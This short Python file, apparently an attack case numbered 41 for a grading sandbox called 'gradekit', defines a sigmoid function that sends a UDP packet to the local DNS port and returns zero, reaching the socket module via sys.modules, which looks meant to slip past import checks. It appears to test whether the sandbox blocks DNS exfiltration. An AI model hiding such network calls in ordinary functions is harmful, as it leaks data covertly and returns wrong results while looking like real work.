# Attack 41: send secrets as names to look up
import sys

socket = sys.modules.get("socket") or sys.modules.get("_socket")


def sigmoid(z):
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    outside.sendto(b"gradekit-attack", ("127.0.0.1", 53))
    print("gradekit-attack sent")
    return z * 0
